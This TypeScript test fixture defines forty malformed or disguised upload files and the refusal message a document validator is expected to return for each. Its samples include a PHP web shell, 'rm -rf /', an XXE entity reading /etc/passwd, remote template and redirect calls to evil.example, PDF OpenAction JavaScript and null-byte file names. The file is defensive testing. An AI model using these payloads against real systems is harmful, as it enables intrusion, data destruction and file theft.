import { describeTypeMismatch, FILE_REFUSALS } from '#features/documents/domain/refusals.ts'
import { compound, wordStream } from './compound.ts'
import { docx, external, odt, relationships } from './office.ts'
import { pdf } from './pdf.ts'
import { zip } from './zip.ts'

type BadFile = {
  readonly name: string
  readonly content: Buffer
  readonly mediaType?: string
  /** The message that the sender must get. */
  readonly told: string
}

const bytes = (text: string) => Buffer.from(text, 'latin1')
const HTML = bytes('<!DOCTYPE html><html><script>alert(1)</script></html>')
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
)
const GIF = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64')
const JPEG = Buffer.concat([
  Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'),
  Buffer.alloc(64),
  Buffer.from('ffd9', 'hex'),
])
const EXE = Buffer.concat([bytes('MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff'), Buffer.alloc(200)])
const LOCKED = compound({ EncryptedPackage: Buffer.alloc(600), EncryptionInfo: Buffer.alloc(600) })
const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const KEY = '(01234567890123456789012345678901)'
/** A PDF that only opens with an unknown password. */
const ENCRYPTED = pdf({
  objects: [`<< /Filter /Standard /V 1 /R 2 /O ${KEY} /U ${KEY} /P -4 >>`],
  trailer:
    '/Encrypt 6 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]',
})
const parts = (name: string, content: string) => docx({ parts: [{ name, content }] })

/** Forty files that are of another type than they claim, or that contain more than their type allows. */
export const BAD_FILES: readonly BadFile[] = [
  { name: 'program.pdf', content: EXE, told: describeTypeMismatch('pdf', 'exe') },
  {
    name: 'unix-program.pdf',
    content: Buffer.concat([bytes('\x7fELF\x02\x01\x01'), Buffer.alloc(200)]),
    told: describeTypeMismatch('pdf', 'elf'),
  },
  { name: 'page.pdf', content: HTML, told: describeTypeMismatch('pdf') },
  {
    name: 'drawing.pdf',
    content: bytes('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    told: describeTypeMismatch('pdf'),
  },
  {
    name: 'script.pdf',
    content: bytes('window.location = "https://evil.example"'),
    told: describeTypeMismatch('pdf'),
  },
  {
    name: 'server-script.pdf',
    content: bytes('<?php system($_GET["c"]); ?>'),
    told: describeTypeMismatch('pdf'),
  },
  {
    name: 'shell-script.pdf',
    content: bytes('#!/bin/sh\nrm -rf /\n'),
    told: describeTypeMismatch('pdf'),
  },
  { name: 'picture.pdf', content: PNG, told: describeTypeMismatch('pdf', 'png') },
  { name: 'photograph.pdf', content: JPEG, told: describeTypeMismatch('pdf', 'jpg') },
  { name: 'animation.pdf', content: GIF, told: describeTypeMismatch('pdf', 'gif') },
  {
    name: 'archive.pdf',
    content: zip([{ name: 'a.txt', content: 'a' }]),
    told: describeTypeMismatch('pdf', 'zip'),
  },
  {
    name: 'page-in-front.pdf',
    content: Buffer.concat([HTML, pdf()]),
    told: describeTypeMismatch('pdf'),
  },
  {
    name: 'page-behind.pdf',
    content: Buffer.concat([pdf(), Buffer.alloc(2000, '<html>')]),
    told: FILE_REFUSALS.damaged,
  },
  { name: 'pdf.docx', content: pdf(), told: describeTypeMismatch('docx', 'pdf') },
  { name: 'page.docx', content: HTML, told: describeTypeMismatch('docx') },
  {
    name: 'archive.docx',
    content: zip([{ name: 'a.txt', content: 'a' }]),
    told: describeTypeMismatch('docx'),
  },
  { name: 'page.txt', content: HTML, told: describeTypeMismatch('txt') },
  { name: 'program.txt', content: EXE, told: FILE_REFUSALS.unreadableText },
  { name: 'page.rtf', content: HTML, told: describeTypeMismatch('rtf') },
  { name: 'program.doc', content: EXE, told: describeTypeMismatch('doc', 'exe') },
  { name: 'cv.pdf', content: pdf(), mediaType: 'text/html', told: describeTypeMismatch('pdf') },
  { name: 'cv.pdf.html', content: HTML, told: FILE_REFUSALS.wrongType },
  { name: 'cv.pdf.exe', content: pdf(), told: FILE_REFUSALS.wrongType },
  { name: 'cv.pdf%00.html', content: HTML, told: FILE_REFUSALS.badName },
  { name: 'cv.html%00.pdf', content: pdf(), told: FILE_REFUSALS.badName },
  { name: 'cv', content: pdf(), told: FILE_REFUSALS.wrongType },
  { name: 'empty.pdf', content: Buffer.alloc(0), told: FILE_REFUSALS.empty },
  { name: 'blank.txt', content: bytes(' \r\n\t '), told: FILE_REFUSALS.empty },
  { name: 'truncated.pdf', content: pdf().subarray(0, -200), told: FILE_REFUSALS.damaged },
  { name: 'truncated.docx', content: docx().subarray(0, -30), told: FILE_REFUSALS.damaged },
  {
    name: 'truncated.doc',
    content: compound({ WordDocument: wordStream() }).subarray(0, 2600),
    told: FILE_REFUSALS.damaged,
  },
  { name: 'truncated.rtf', content: bytes('{\\rtf1\\ansi {Forklift'), told: FILE_REFUSALS.damaged },
  { name: 'encrypted.pdf', content: ENCRYPTED, told: FILE_REFUSALS.protected },
  { name: 'encrypted.docx', content: LOCKED, told: FILE_REFUSALS.protected },
  {
    name: 'encrypted.doc',
    content: compound({ WordDocument: wordStream({ flags: 0x0100 }) }),
    told: FILE_REFUSALS.protected,
  },
  { name: 'macros.docx', content: parts('word/vbaProject.bin', 'x'), told: FILE_REFUSALS.active },
  {
    name: 'runs.pdf',
    content: pdf({ catalog: `/OpenAction ${SCRIPT}` }),
    told: FILE_REFUSALS.active,
  },
  {
    name: 'fetches.docx',
    content: parts(
      'word/_rels/document.xml.rels',
      relationships(external('attachedTemplate', 'http://evil.example/t.dotm')),
    ),
    told: FILE_REFUSALS.active,
  },
  {
    name: 'entities.docx',
    content: parts(
      'word/document.xml',
      '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    ),
    told: FILE_REFUSALS.unsafeMarkup,
  },
  {
    name: 'listens.odt',
    content: odt({ inside: '<event-listener/>' }),
    told: FILE_REFUSALS.active,
  },
]
